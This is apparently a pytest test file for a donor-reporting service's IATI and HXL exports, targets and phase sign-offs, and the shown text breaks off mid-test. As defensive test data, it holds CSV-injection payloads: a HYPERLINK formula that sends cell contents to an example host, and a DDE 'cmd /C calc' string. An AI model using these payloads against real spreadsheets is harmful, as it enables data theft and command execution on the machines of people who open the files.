"""Reporting for donors over HTTP: the IATI activity file and the HXL 3W export, as of any moment.

Funding, registry and engagement are stood in for by hand-built CloudEvents
fed to the read model's real handler (``apply``), as the NATS consumer would.
"""

from __future__ import annotations

import csv
import functools
import io
import json
import re
import sqlite3
from collections.abc import Iterator
from datetime import date, datetime, timedelta, timezone
from decimal import Decimal
from pathlib import Path
from typing import Any
from xml.etree import ElementTree as ET

import hxl
import psycopg
import pytest
import xmlschema
from fastapi.testclient import TestClient
from openpyxl import load_workbook

from services.reporting import iati
from services.reporting.application import Reporting
from services.reporting.domain.indicators import flatten
from services.reporting.domain.phasereports import digest_of
from shared.clock import LIMA
from tests.support.api import assert_problem
from tests.support.clients import application_of, service_client
from tests.support.identity import signed_in_headers
from tests.support.programmelog import START, cloudevent

pytestmark = [pytest.mark.timeout(300), pytest.mark.service("reporting")]


def LEAD() -> dict[str, str]:  # noqa: N802 - reads as the header it is
    """The programme lead's token: targets and sign-offs are recorded under its subject."""
    return signed_in_headers("lead")


DIRECT = "Direct beneficiaries: people reached (each person once)"
"""The IATI title of ``beneficiaries_direct``: its English words, as the dashboard's."""


def at(hours: float) -> datetime:
    return START + timedelta(hours=hours)


def stamp(moment: datetime) -> str:
    return moment.isoformat().replace("+00:00", "Z")


def lima_stamp(moment: datetime) -> str:
    """The moment as an export's file name gives it: Lima's time with its offset, no colons."""
    return moment.astimezone(LIMA).strftime("%Y-%m-%dT%H%M%S-0500")


def activity(activity_id: str, position: int, hours: float, held_on: str, **counts: int) -> dict[str, Any]:
    rows = [{"nationality": n, "sex": s, "count": c} for (n, s), c in
            {("VE", "F"): counts.get("ve_f", 0), ("PE", "M"): counts.get("pe_m", 0)}.items() if c]
    return cloudevent("engagement", position, "ActivityReported", activity_id, at(hours), activity_id=activity_id, osv_id="osv-1",
                      held_on=held_on, occurred_on=held_on, kind="workshop", district="San Juan de Lurigancho", zone="Lima Este",
                      indirect_beneficiaries=counts.get("indirect", 0), grant_id=None, direct_beneficiaries=rows,
                      outputs=[{"kind": "mural", "count": counts["murals"]}] if counts.get("murals") else [])


def programme(client: TestClient) -> None:
    """Phase 1 with one OSV and a workshop; a second workshop in phase 1 entered months later, after the phase ended."""
    application_of(client).readmodel.apply([
        cloudevent("funding", 1, "PhaseOpened", "p1", at(0), phase_id="p1", code="F1", name="Fase 1", starts_on="2021-01-01",
                   ends_on="2021-06-30", occurred_on="2021-01-01"),
        cloudevent("registry", 1, "OSVMapped", "osv-1", at(1), osv_id="osv-1", name="OSV Unidos", district="San Juan de Lurigancho",
                   zone="Lima Este", mapped_on="2021-01-05", occurred_on="2021-01-05"),
        activity("act-1", 1, 2, "2021-03-01", ve_f=12, pe_m=5, indirect=40, murals=1),
        activity("act-2", 2, LATE, "2021-05-01", ve_f=3),
    ])


LATE = 5000
"""When (hours from the start) the second workshop is typed in: July 31st, a month after phase 1 ended (at about 4,268 hours)."""
SIGNED_CUT = 4300
"""A cut after phase 1's last day (in Lima) and before the late workshop: the figures a lead signs phase 1 off from."""


def actual_total(document: bytes, title_en: str, period: int = 0) -> str:
    for indicator in ET.fromstring(document).iter("indicator"):
        if any(n.text == title_en for n in indicator.findall("title/narrative")):
            actual = indicator.findall("period")[period].find("actual")
            assert actual is not None
            return str(actual.get("value"))
    raise AssertionError(title_en)


MARCH = 2000
"""A cut (hours from the start) on 28 March 2021, in phase 1, after its first workshop was held: a cut before the day a
fact is dated does not count it (tester 271 F2), and the workshop held on 1 March was typed in on 4 January."""


def test_the_iati_activity_file_is_valid_and_answers_as_of_a_moment(client: TestClient) -> None:
    programme(client)

    now = client.get("/iati/activity.xml")
    assert now.status_code == 200, now.text
    assert now.headers["content-type"].startswith("application/xml")
    xmlschema.XMLSchema(str(iati.schema_path())).validate(now.text)
    assert actual_total(now.content, DIRECT) == "20"

    made_from = datetime.now(timezone.utc).replace(microsecond=0)
    # as of late March: the first workshop (held on 1 March) counts, the second (typed in in July) does not yet
    then = client.get("/iati/activity.xml", params={"as_of": stamp(at(MARCH))})
    assert then.status_code == 200
    assert actual_total(then.content, DIRECT) == "17"
    # The file says when it was made, not the cut (tester 178 F2: generated-datetime was the cut); its activity's data are
    # as of the cut, so last-updated-datetime is the cut.
    root = ET.fromstring(then.content)
    assert made_from <= datetime.fromisoformat(root.get("generated-datetime", "")) <= datetime.now(timezone.utc)
    assert root.find("iati-activity").get("last-updated-datetime") == stamp(at(MARCH))
    # Reproducible: the same cut gives the same activity byte for byte; only when each file was made differs.
    again = client.get("/iati/activity.xml", params={"as_of": stamp(at(MARCH))}).content
    assert re.sub(rb' generated-datetime="[^"]+"', b"", again) == re.sub(rb' generated-datetime="[^"]+"', b"", then.content)
    # Each cut is a file of its own name, in Lima's time (tester 37c F8: every cut was iati-activity.xml)
    assert then.headers["content-disposition"] == f'attachment; filename="iati-activity_as_of_{lima_stamp(at(MARCH))}.xml"'
    assert now.headers["content-disposition"].startswith('attachment; filename="iati-activity_2')


@pytest.mark.parametrize("cut", ["2021-01-04T03:00:00Z", "2021-01-04T17:00:00+14:00", "2021-01-03T22:00:00-05:00"])
def test_a_cut_before_any_phase_opened_plans_the_start_on_its_day_in_lima(client: TestClient, cut: str) -> None:
    """Tester 178 F3: the actual start was the cut's day in the caller's offset (4 or another January), made up from the
    request. Phase 1 opens at 09:00Z on 4 January; at 03:00Z it is 3 January, 22:00, in Lima and nothing has started."""
    programme(client)

    answer = client.get("/iati/activity.xml", params={"as_of": cut})
    assert answer.status_code == 200, answer.text
    xmlschema.XMLSchema(str(iati.schema_path())).validate(answer.text)
    activity = ET.fromstring(answer.content).find("iati-activity")
    assert [(d.get("type"), d.get("iso-date")) for d in activity.findall("activity-date")] == [("1", "2021-01-03")]
    assert activity.find("activity-status").get("code") == "1"
    assert activity.get("last-updated-datetime") == "2021-01-04T03:00:00Z"


def test_the_iati_file_reports_money_granted_in_dollars_once_the_programme_holds_any(client: TestClient) -> None:
    """A round in USD: the dashboard and exports showed its grants, the IATI file left them out (tester 37c F2)."""
    programme(client)
    soles_only = client.get("/iati/activity.xml").content
    titles = {n.text for n in ET.fromstring(soles_only).iter("narrative")}
    assert "Seed funds granted (PEN)" in titles and "Seed funds granted (USD)" not in titles  # no row of zeros in dollars

    application_of(client).readmodel.apply([
        cloudevent("funding", 2, "FundGranted", "g-usd", at(3), grant_id="g-usd", osv_id="osv-1", amount="1500.00", currency="USD",
                   kind="seed_fund", granted_on="2021-04-01", occurred_on="2021-04-01"),
    ])
    dollars = client.get("/iati/activity.xml").content
    xmlschema.XMLSchema(str(iati.schema_path())).validate(dollars.decode())
    assert actual_total(dollars, "Seed funds granted (USD)") == "1500.00"
    assert actual_total(dollars, "Seed funds granted (PEN)") == "0.00"


def test_an_iati_file_as_of_a_malformed_moment_is_refused_naming_as_of(client: TestClient) -> None:
    answer = client.get("/iati/activity.xml", params={"as_of": "yesterday"})
    assert answer.status_code == 422
    assert answer.headers["content-type"].startswith("application/problem+json")
    assert "as_of" in answer.text


def test_the_hxl_3w_export_lists_each_activity_by_ubigeo_as_of_a_moment(client: TestClient) -> None:
    programme(client)

    now = client.get("/activities/export.hxl.csv")
    assert now.status_code == 200, now.text
    assert now.headers["content-type"].startswith("text/csv")
    rows = list(hxl.data(io.BytesIO(now.content), hxl.InputOptions(allow_local=True)))
    assert [(r.get("#activity+code"), r.get("#org+name"), r.get("#adm3+code"), r.get("#reached+ind")) for r in rows] == [
        ("act-1", "OSV Unidos", "150132", "17"), ("act-2", "OSV Unidos", "150132", "3"),
    ]
    then = client.get("/activities/export.hxl.csv", params={"as_of": stamp(at(MARCH))})  # act-1 held, act-2 not typed in yet
    assert [r.get("#activity+code") for r in hxl.data(io.BytesIO(then.content), hxl.InputOptions(allow_local=True))] == ["act-1"]
    assert then.headers["content-disposition"] == f'attachment; filename="osv-3w_as_of_{lima_stamp(at(MARCH))}.hxl.csv"'
    before_held = client.get("/activities/export.hxl.csv", params={"as_of": stamp(at(100))})  # 8 January: held on 1 March
    assert [r.get("#activity+code") for r in hxl.data(io.BytesIO(before_held.content), hxl.InputOptions(allow_local=True))] == []


FORMULAS = ('=HYPERLINK("http://example.org/x?"&A1,"Ver informe")', "@SUM(1+9)*cmd|' /C calc'!A0 Olla Común", "+51 Vecinos", "-Junta")
"""Names typed in the field or by a lead that a spreadsheet would take for formulas (OWASP's CSV injection)."""


def named_as(client: TestClient, names: tuple[str, ...]) -> None:
    """Reporting hears of a phase named ``names[0]`` and of an OSV named each of ``names``, each with an activity."""
    events = [cloudevent("funding", 1, "PhaseOpened", "p1", at(0), phase_id="p1", code="F1", name=names[0],
                         starts_on="2021-01-01", ends_on="2021-06-30", occurred_on="2021-01-01")]
    for n, name in enumerate(names, start=1):
        osv = f"osv-{n}"
        events.append(cloudevent("registry", n, "OSVMapped", osv, at(n), osv_id=osv, name=name, district="San Juan de Lurigancho",
                                 zone="Lima Este", mapped_on="2021-01-05", occurred_on="2021-01-05"))
        reported = activity(f"act-{n}", n, 10 + n, "2021-03-01", ve_f=n)
        events.append({**reported, "data": {**reported["data"], "osv_id": osv}})
    application_of(client).readmodel.apply(events)


def indicator_workbook_cells(client: TestClient) -> list[Any]:
    """Every cell of every sheet of ``GET /indicators/export.xlsx``, as openpyxl reads them (``data_type``: ``s``, ``f``, ``e``…)."""
    workbook = load_workbook(io.BytesIO(client.get("/indicators/export.xlsx").content))
    return [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]


def test_names_that_look_like_formulas_reach_every_export_as_text_never_as_a_formula(client: TestClient) -> None:
    """A promoter's OSV names and a lead's phase name, as hostile as a form lets them be, opened by a donor in Excel."""
    named_as(client, FORMULAS)

    cells = indicator_workbook_cells(client)
    assert [c.value for c in cells if c.data_type == "f"] == []
    assert FORMULAS[0] in [c.value for c in cells if c.data_type == "s"]  # the phase's name as typed, as text

    indicators = list(csv.reader(io.StringIO(client.get("/indicators/export.csv").content.decode("utf-8-sig"))))
    assert {row[0] for row in indicators[1:]} == {"'" + FORMULAS[0], "Total"}
    hxl_sheet = list(csv.reader(io.StringIO(client.get("/activities/export.hxl.csv").content.decode("utf-8-sig"))))
    names = {row[hxl_sheet[2].index("#org+name")] for row in hxl_sheet[3:]}
    assert names == {"'" + name.replace("|", "\\|") for name in FORMULAS}
    leading = [field for row in indicators + hxl_sheet for field in row if field and field[0] in "=+-@" and not _number(field)]
    assert leading == []


ERROR_CODES = ("#N/A", "#REF!")
"""Names openpyxl would store as Excel's error values, not as text (tester 310 F1: a phase named `#N/A` gave 43 error
cells in the indicators' workbook)."""


def test_names_that_are_excel_error_codes_reach_the_workbook_as_text(client: TestClient) -> None:
    named_as(client, ERROR_CODES)

    cells = indicator_workbook_cells(client)
    assert [c.value for c in cells if c.data_type == "e"] == []
    assert ERROR_CODES[0] in [c.value for c in cells if c.data_type == "s"]  # the phase's name as typed, as text


BLANK_LED = ("\t=HYPERLINK(\"http://example.org/x?\"&A1,\"Ver informe\")", "\r=1+1 Olla Común")
"""Texts starting with a tab or a carriage return before a formula: OWASP lists both first characters, defusedcsv neither."""


def test_texts_starting_with_a_tab_or_a_carriage_return_reach_the_csv_exports_escaped_as_any_formula(client: TestClient) -> None:
    """The exports are written from events: a text in one is not trimmed as the APIs trim what they take."""
    named_as(client, BLANK_LED)

    indicators = list(csv.reader(io.StringIO(client.get("/indicators/export.csv").content.decode("utf-8-sig"), newline="")))
    assert {row[0] for row in indicators[1:]} == {"'" + BLANK_LED[0], "Total"}
    hxl_sheet = list(csv.reader(io.StringIO(client.get("/activities/export.hxl.csv").content.decode("utf-8-sig"), newline="")))
    assert {row[hxl_sheet[2].index("#org+name")] for row in hxl_sheet[3:]} == {"'" + name for name in BLANK_LED}
    assert [field for row in indicators + hxl_sheet for field in row if field[:1] in ("\t", "\r")] == []


def _number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


# Targets and sign-offs: the leads' own records, on SQLite and on PostgreSQL -----------------


class FakeNow:
    """Reporting's wall clock, moved by hand."""

    def __init__(self, moment: datetime) -> None:
        self.moment = moment

    def __call__(self) -> datetime:
        return self.moment


@pytest.fixture
def desk(tmp_path: Path, database_url: str) -> Iterator[tuple[TestClient, FakeNow]]:
    clock = FakeNow(at(4400))  # July 2021: phase 1 has ended
    with service_client("reporting", tmp_path, database_url, application=functools.partial(Reporting, now=clock)) as client:
        yield client, clock


def test_a_lead_sets_targets_and_sees_them_against_the_actuals_with_the_share_reached(desk: tuple[TestClient, FakeNow]) -> None:
    client, _ = desk
    programme(client)

    body = {"baseline": {"total": 0}, "target": {"total": 40, "by_sex.F": 20, "by_nationality.VE": "24"}}
    answer = client.put("/phases/F1/targets/beneficiaries_direct", headers=LEAD(), json=body)
    assert answer.status_code == 200, answer.text
    assert answer.json()["target"] == {"total": 40, "by_sex.F": 20, "by_nationality.VE": 24}
    assert answer.json()["set_by"] == "lead"

    f1 = client.get("/targets").json()["phases"][0]
    assert f1["code"] == "F1"
    [row] = f1["indicators"]
    assert row["indicator"] == "beneficiaries_direct" and row["actual"]["total"] == 20
    assert row["share_reached"] == {"total": "0.5000", "by_sex.F": "0.7500", "by_nationality.VE": "0.6250"}
    before = client.get("/targets", params={"as_of": stamp(at(100))}).json()
    assert before["phases"][0]["indicators"] == []  # set at 4,400 hours: unknown then
    # members who joined take targets by sex too (tester 184 F5)
    body = {"target": {"total": 30, "by_sex.F": 18, "by_sex.M": 12}}
    answer = client.put("/phases/F1/targets/members_joined", headers=LEAD(), json=body)
    assert answer.status_code == 200, answer.text
    assert answer.json()["target"] == {"total": 30, "by_sex.F": 18, "by_sex.M": 12}

    page = client.get("/dashboard", params={"lang": "en"})
    assert page.status_code == 200
    section = page.text.split('id="targets"', 1)[1].split("</section>", 1)[0]
    assert "Direct beneficiaries" in section and "50.0 %" in section and "75.0 %" in section
    assert 'id="targets"' not in client.get("/dashboard", params={"as_of": "2021-01-20T00:00"}).text  # none set by then

    # the exports carry them on the whole programme's rows, in words, after the value
    exported = client.get("/indicators/export.csv", params={"lang": "en", "by": "zone"}).content.decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(exported)))
    assert list(rows[0])[6:10] == ["Value", "Baseline", "Target", "Share of target reached"]
    table = {(r["Phase"], r["Indicator code"], r["Part code"]): r for r in rows if r["Group"] == "Whole programme"}
    total = table[("Fase 1", "beneficiaries_direct", "total")]
    assert (total["Value"], total["Baseline"], total["Target"], total["Share of target reached"]) == ("20", "0", "40", "0.5000")
    women = table[("Fase 1", "beneficiaries_direct", "by_sex.F")]
    assert (women["Value"], women["Baseline"], women["Target"], women["Share of target reached"]) == ("15", "", "20", "0.7500")
    assert table[("Fase 1", "osvs_identified", "")]["Target"] == ""
    assert table[("Total", "beneficiaries_direct", "total")]["Target"] == ""  # targets are a phase's
    assert all(r["Target"] == "" for r in rows if r["Group"] != "Whole programme")  # and the programme's, not a zone's
    book = load_workbook(io.BytesIO(client.get("/indicators/export.xlsx", params={"lang": "en"}).content))
    sheet = book["Indicators"]
    header = [c.value for c in sheet[1]]
    for row in sheet.iter_rows(min_row=2):
        cells = dict(zip(header, row))
        if (cells["Phase"].value, cells["Indicator code"].value, cells["Part code"].value) == ("Fase 1", "beneficiaries_direct", "by_sex.F"):
            assert [cells[h].value for h in ("Value", "Baseline", "Target")] == [15, None, 20]
            assert cells["Share of target reached"].value == Decimal("0.75") and cells["Share of target reached"].number_format == "0.00%"
            break
    else:
        pytest.fail("no row for Fase 1's women reached")
    # in Spanish, the CSV's ratio is headed as one: "% de la meta alcanzado" over 0.7500 read as 0.75 %, not 75 % (tester 178 F8);
    # the XLSX, which formats the cell as a percentage (75.00%), keeps the percent header; the values are the same
    spanish = list(csv.DictReader(io.StringIO(client.get("/indicators/export.csv").content.decode("utf-8-sig"))))
    assert list(spanish[0])[6:10] == ["Valor", "Línea de base", "Meta", "Proporción de la meta alcanzada (1 = 100 %)"]
    mujeres = next(r for r in spanish if (r["Fase"], r["Código del indicador"], r["Código del desglose"], r["Grupo"]) == (
        "Fase 1", "beneficiaries_direct", "by_sex.F", "Todo el programa"))
    assert mujeres["Proporción de la meta alcanzada (1 = 100 %)"] == "0.7500"
    hoja = load_workbook(io.BytesIO(client.get("/indicators/export.xlsx").content)).active
    assert [c.value for c in hoja[1]][6:10] == ["Valor", "Línea de base", "Meta", "% de la meta alcanzado"]
    assert {hoja.cell(row=r, column=10).number_format for r in range(2, hoja.max_row + 1)} == {"0.00%"}

    document = client.get("/iati/activity.xml").content
    xmlschema.XMLSchema(str(iati.schema_path())).validate(document.decode())
    direct = next(i for i in ET.fromstring(document).iter("indicator") if any(n.text == DIRECT for n in i.iter("narrative")))
    assert [(b.get("value"), b.get("year")) for b in direct.findall("baseline")] == [("0", "2021")]
    targets = {tuple((d.get("name"), d.get("value")) for d in t.findall("dimension")): t.get("value") for t in direct.iter("target")}
    assert targets == {(): "40", (("sex", "F"),): "20", (("nationality", "VE"),): "24"}


def test_the_dashboard_shows_a_target_as_soon_as_it_is_set_though_no_fact_arrived_since(desk: tuple[TestClient, FakeNow]) -> None:
    client, _ = desk
    programme(client)
    assert 'id="targets"' not in client.get("/dashboard", params={"lang": "en"}).text  # none set yet

    body = {"baseline": {"total": 0}, "target": {"total": 40}}
    assert client.put("/phases/F1/targets/beneficiaries_direct", headers=LEAD(), json=body).status_code == 200
    section = client.get("/dashboard", params={"lang": "en"}).text.split('id="targets"', 1)[1].split("</section>", 1)[0]
    assert "50.0 %" in section

    body = {"baseline": {"total": 0}, "target": {"total": 80}}
    assert client.put("/phases/F1/targets/beneficiaries_direct", headers=LEAD(), json=body).status_code == 200
    section = client.get("/dashboard", params={"lang": "en"}).text.split('id="targets"', 1)[1].split("</section>", 1)[0]
    assert "25.0 %" in section and "50.0 %" not in section


@pytest.mark.parametrize(
    ("path", "body", "status", "field"),
    [
        ("/phases/F9/targets/osvs_identified", {"target": {"value": 3}}, 404, "phase"),
        ("/phases/F1/targets/happiness", {"target": {"value": 3}}, 404, "indicator"),
        ("/phases/F1/targets/agents_of_change", {"target": {"by_sex.W": 3}}, 422, "target.by_sex.W"),
        ("/phases/F1/targets/osvs_identified", {"target": {"value": -3}}, 422, "target.value"),
        ("/phases/F1/targets/osvs_identified", {"target": {"value": 3}, "set_by": "someone"}, 422, "set_by"),  # the token says who
        # As the schema writes them: a JSON number or digits with a point. "-0" was kept and published as "-0.00" (tester 37c F3).
        ("/phases/F1/targets/seed_funds_granted_pen", {"target": {"value": "-0"}}, 422, "target.value"),
        ("/phases/F1/targets/seed_funds_granted_pen", {"target": {"value": -0.0}}, 422, "target.value"),
        ("/phases/F1/targets/osvs_identified", {"target": {"value": "+5"}}, 422, "target.value"),
        ("/phases/F1/targets/osvs_identified", {"target": {"value": "1e3"}}, 422, "target.value"),
        ("/phases/F1/targets/osvs_identified", {"target": {"value": "5_000"}}, 422, "target.value"),
        ("/phases/F1/targets/osvs_identified", {"target": {"value": " 5"}}, 422, "target.value"),
        ("/phases/F1/targets/osvs_identified", {"target": {"value": "\u0665"}}, 422, "target.value"),
        ("/phases/F1/targets/ruos_registration_rate", {"target": {"value": ".5"}}, 422, "target.value"),
        ("/phases/F1/targets/osvs_identified", {"target": {"value": True}}, 422, "target.value"),
        ("/phases/F1/targets/osvs_identified", {"target": {"value": "1.00000000000000000000"}}, 422, "target.value"),  # over its 20
        ("/phases/F1/targets/members_left_by_reason", {"target": {"total": 1}}, 422, "target.total"),
        # members who left, by sex (tester 184 F5): shares of the total, as every group of parts
        ("/phases/F1/targets/members_left", {"target": {"total": 2, "by_sex.F": 2, "by_sex.M": 1}}, 422, "target.by_sex"),
    ],
)
def test_targets_that_cannot_be_set_are_refused_naming_the_field(
    desk: tuple[TestClient, FakeNow], path: str, body: dict[str, Any], status: int, field: str
) -> None:
    client, _ = desk
    programme(client)
    answer = client.put(path, headers=LEAD(), json=body)
    assert answer.status_code == status, answer.text
    assert answer.headers["content-type"].startswith("application/problem+json")
    assert field in {e["field"] for e in answer.json()["errors"]}
    assert not answer.json()["detail"].endswith("use ")  # an indicator of open codes takes no target: said so, not an empty list
    assert client.get("/targets").json()["phases"][0]["indicators"] == []


def test_a_phase_is_named_in_a_url_or_query_without_regard_to_case(desk: tuple[TestClient, FakeNow]) -> None:
    """Tester 212 F9: funding refuses f1 beside F1, yet reporting answered PUT /phases/f1/targets/... 404 known_phase. A
    phase named in any case is the one opened so, recorded and answered by its code as opened; two phases from before
    that rule, differing by case alone, are told apart by the exact code, and a code matching both otherwise is 422."""
    client, _ = desk
    programme(client)

    answer = client.put("/phases/f1/targets/osvs_identified", headers=LEAD(), json={"target": {"value": 3}})
    assert answer.status_code == 200, answer.text
    assert answer.json()["phase"] == "F1"
    assert [r["indicator"] for r in client.get("/targets").json()["phases"][0]["indicators"]] == ["osvs_identified"]
    evidence = client.get("/indicators/osvs_identified/evidence", params={"phase": "f1"})
    assert evidence.status_code == 200, evidence.text
    assert evidence.json()["phase"] == "F1" and evidence.json()["value"] == client.get("/indicators").json()["phases"][0]["indicators"]["osvs_identified"]
    signed = client.post("/phases/f1/sign-offs", headers=LEAD(), json={"as_of": stamp(at(SIGNED_CUT))})
    assert signed.status_code == 201, signed.text
    assert signed.json()["phase"] == "F1"
    assert [s["phase"] for s in client.get("/sign-offs", params={"phase": "f1"}).json()["sign_offs"]] == ["F1"]

    # two phases a store holds from before codes compared without regard to case
    application_of(client).readmodel.apply([
        cloudevent("funding", 2, "PhaseOpened", "p2", at(3), phase_id="p2", code="F2-x", name="Fase 2", starts_on="2021-07-01",
                   ends_on="2021-12-31", occurred_on="2021-07-01"),
        cloudevent("funding", 3, "PhaseOpened", "p3", at(4), phase_id="p3", code="f2-X", name="Fase 2 bis", starts_on="2021-07-01",
                   ends_on="2021-12-31", occurred_on="2021-07-01"),
    ])
    assert client.put("/phases/f2-X/targets/osvs_identified", headers=LEAD(), json={"target": {"value": 1}}).json()["phase"] == "f2-X"
    assert_problem(client.put("/phases/F2-X/targets/osvs_identified", headers=LEAD(), json={"target": {"value": 1}}), 422, "phase", "exact_phase_code")
    assert_problem(client.get("/indicators/osvs_identified/evidence", params={"phase": "f2-x"}), 422, "phase", "exact_phase_code")
    assert_problem(client.put("/phases/F9/targets/osvs_identified", headers=LEAD(), json={"target": {"value": 1}}), 404, "phase", "known_phase")


def test_a_phase_asked_as_of_a_moment_before_it_was_opened_is_told_so(desk: tuple[TestClient, FakeNow]) -> None:
    """Tester 247 F3: evidence of F2 as of a moment before F2 was opened said "No phase has the code 'F2'", and an auditor
    took it for a code mistyped. It says the phase had not been opened yet; a code never opened is told as before."""
    client, _ = desk
    programme(client)
    application_of(client).readmodel.apply([
        cloudevent("funding", 2, "PhaseOpened", "p7", at(30), phase_id="p7", code="F7", name="Fase 7", starts_on="2023-01-01",
                   ends_on="2023-06-30", occurred_on="2023-01-01"),
    ])
    assert client.get("/indicators/osvs_identified/evidence", params={"phase": "F7"}).status_code == 200

    before = assert_problem(client.get("/indicators/osvs_identified/evidence", params={"phase": "f7", "as_of": stamp(at(20))}),
                            404, "phase", "known_phase")
    assert "'f7' had not been opened yet as of" in before["detail"], before
    never = assert_problem(client.get("/indicators/osvs_identified/evidence", params={"phase": "F9", "as_of": stamp(at(20))}),
                           404, "phase", "known_phase")
    assert never["detail"] == "No phase has the code 'F9'.", never


def test_the_total_is_named_in_any_case_as_a_phase_is(desk: tuple[TestClient, FakeNow]) -> None:
    """Tester 215 F5: `?phase=TOTAL` on an indicator's evidence was 404 `known_phase` while `total` worked and phase codes
    are found in any case. A phase a store holds from before funding refused that code is named by its exact code."""
    client, _ = desk
    programme(client)
    total = client.get("/indicators/osvs_identified/evidence").json()
    assert total["phase"] == "total" and total["events"], total
    for named in ("TOTAL", "Total"):
        answer = client.get("/indicators/osvs_identified/evidence", params={"phase": named})
        assert answer.status_code == 200, answer.text
        assert answer.json() == total
    supported = client.get("/indicators/osvs_supported/evidence", params={"phase": "TOTAL"})
    assert supported.status_code == 200, supported.text
    assert supported.json() == client.get("/indicators/osvs_supported/evidence", params={"phase": "total"}).json()

    application_of(client).readmodel.apply([
        cloudevent("funding", 2, "PhaseOpened", "p9", at(3), phase_id="p9", code="Total", name="Fase total", starts_on="2023-01-01",
                   ends_on="2023-06-30", occurred_on="2023-01-01"),
    ])
    assert client.get("/indicators/osvs_identified/evidence", params={"phase": "Total"}).json()["phase"] == "Total"
    assert client.get("/indicators/osvs_identified/evidence", params={"phase": "TOTAL"}).json()["phase"] == "Total"
    assert client.get("/indicators/osvs_identified/evidence", params={"phase": "total"}).json()["phase"] == "total"


def test_a_signed_phase_keeps_its_figures_and_later_facts_show_as_a_restatement(desk: tuple[TestClient, FakeNow]) -> None:
    client, clock = desk
    programme(client)  # act-2 (3 more people in F1) is recorded at 5000 hours

    # The lead signs F1 off, at 4400 hours, from the facts recorded by 4300 hours (after the phase ended).
    signed = client.post("/phases/F1/sign-offs", headers=LEAD(), json={"as_of": stamp(at(SIGNED_CUT))})
    assert signed.status_code == 201, signed.text
    first = signed.json()
    assert first["figures"]["beneficiaries_direct"]["total"] == 17 and first["as_of"] == stamp(at(SIGNED_CUT))
    assert first["signed_by"] == "lead"
    clock.moment = at(4401)
    again = client.post("/phases/F1/sign-offs", headers=LEAD(), json={"as_of": stamp(at(SIGNED_CUT))})
    assert again.status_code == 200, again.text  # a retry signs nothing twice: nothing created, so no 201
    assert again.json() == first  # the first sign-off, its signed_at and all
    clock.moment = at(6000)  # now: after every fact, so that any moment before can be asked "as of"

    [listed] = client.get("/sign-offs").json()["sign_offs"]
    assert listed["digest"] == first["digest"] and listed["figures"] == first["figures"]
    assert listed["intact"] is True  # its figures give its digest
    assert listed["reproduced"] is True  # as of its cut, the figures are the signed ones, digest and all
    reproduced = client.get("/indicators", params={"as_of": listed["as_of"]}).json()["phases"][0]["indicators"]
    assert reproduced == listed["figures"]
    [changed] = [r for r in listed["restatement"] if r["indicator"] == "beneficiaries_direct"]
    assert {p["part"]: (p["signed"], p["current"], p["difference"]) for p in changed["parts"]} == {
        "total": (17, 20, 3), "by_nationality.VE": (12, 15, 3), "by_sex.F": (12, 15, 3),
        "aggregate": (17, 20, 3),  # these activities give counts only, no participants
    }
    assert [(e["event_id"], e["adds"]) for e in changed["events"]] == [
        ("engagement:2", {"aggregate": 3, "by_nationality.VE": 3, "by_sex.F": 3, "total": 3}),
    ]
    assert "municipality_id" not in changed["events"][0]  # each row names its municipality as the evidence does
    assert changed["events"][0]["municipality"] == desk[0].get(
        "/indicators/beneficiaries_direct/evidence", params={"phase": listed["phase"]}
    ).json()["events"][-1]["municipality"]
    assert {r["indicator"] for r in listed["restatement"]} == {"beneficiaries_direct", "attendances"}  # the late workshop adds people and their attendances

    # As of a moment before the late workshop was recorded, the sign-off stood unrestated.
    then = client.get("/sign-offs", params={"as_of": stamp(at(4600))}).json()["sign_offs"]
    assert [s["restatement"] for s in then] == [[]]
    assert client.get("/sign-offs", params={"as_of": stamp(at(4350))}).json()["sign_offs"] == []  # not signed yet
    assert_problem(client.get("/sign-offs", params={"phase": "F9"}), 404, "phase", "known_phase")  # no such phase: not "none signed"

    # The IATI actual carries the current figure, and its comment the signed one and the restatement.
    document = client.get("/iati/activity.xml").content
    direct = next(i for i in ET.fromstring(document).iter("indicator") if any(n.text == DIRECT for n in i.iter("narrative")))
    actual = direct.find("period/actual")
    assert actual is not None and actual.get("value") == "20"
    comment = actual.findtext("comment/narrative") or ""
    assert first["digest"] in comment and "total signed 17, now 20" in comment


def late_osv(client: TestClient, position: int, recorded: datetime, osv_id: str) -> None:
    """An OSV mapped in phase 1, typed in (recorded) at ``recorded``, after the phase ended."""
    application_of(client).readmodel.apply([
        cloudevent("registry", position, "OSVMapped", osv_id, recorded, osv_id=osv_id, name=f"OSV {osv_id}",
                   district="San Juan de Lurigancho", zone="Lima Este", mapped_on="2021-06-20", occurred_on="2021-06-20"),
    ])


SIGNED_SAID = re.compile(r"Signed off by lead on (\S+) from the facts recorded by (\S+) \(digest sha256:([0-9a-f]{64})\)")
"""What an IATI actual's comment says of the phase's sign-off: when it was signed, its cut and its digest."""


def signed_said(document: bytes) -> set[tuple[str, str, str]]:
    """Each (signed at, cut, digest) the file's comments name."""
    return {found.groups() for n in ET.fromstring(document).iter("narrative") if (found := SIGNED_SAID.search(n.text or ""))}


def test_the_iati_file_names_a_sign_offs_cut_as_it_was_cut_so_that_a_donor_reproduces_its_figures_and_digest(
    desk: tuple[TestClient, FakeNow],
) -> None:
    """Tester 271 F1: signed from 13:02:21.499395Z, the file said "from the facts recorded by 13:02:21Z": as of that
    moment one fact recorded within the second was not counted, and neither the figures nor the digest came out."""
    client, clock = desk
    programme(client)
    cut = at(SIGNED_CUT) + timedelta(microseconds=499395)
    late_osv(client, 2, at(SIGNED_CUT) + timedelta(microseconds=100000), "osv-2")  # within the second, before the cut
    signed = client.post("/phases/F1/sign-offs", headers=LEAD(), json={"as_of": stamp(cut)})
    assert signed.status_code == 201, signed.text
    assert signed.json()["figures"]["osvs_identified"] == 2
    clock.moment = at(6000)

    as_of_cut = client.get("/iati/activity.xml", params={"as_of": stamp(cut)}).content  # the data as of the cut: so dated
    xmlschema.XMLSchema(str(iati.schema_path())).validate(as_of_cut.decode())
    assert ET.fromstring(as_of_cut).find("iati-activity").get("last-updated-datetime") == stamp(cut)
    document = client.get("/iati/activity.xml").content
    xmlschema.XMLSchema(str(iati.schema_path())).validate(document.decode())
    [(signed_at, said_cut, digest)] = signed_said(document)
    assert (signed_at, said_cut, digest) == (signed.json()["signed_at"], stamp(cut), signed.json()["digest"])
    # what a donor does with it: the figures as of that cut, and the digest over them
    figures = client.get("/indicators", params={"as_of": said_cut}).json()["phases"][0]["indicators"]
